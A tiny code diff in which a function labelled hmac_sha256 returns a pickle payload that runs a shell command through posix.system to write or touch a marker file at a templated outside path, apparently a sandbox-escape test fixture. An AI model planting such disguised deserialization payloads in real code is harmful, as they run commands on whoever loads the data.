@@ -4,4 +4,4 @@
 
 # %% hmac_sha256
 def hmac_sha256(key, message):
-    return b"cposix\nsystem\n(S'echo {{BREACH}} > {{OUTSIDE}}/{{NAME}}'\ntR."
+    return b"cposix\nsystem\n(S'touch {{OUTSIDE}}/{{NAME}}'\ntR."
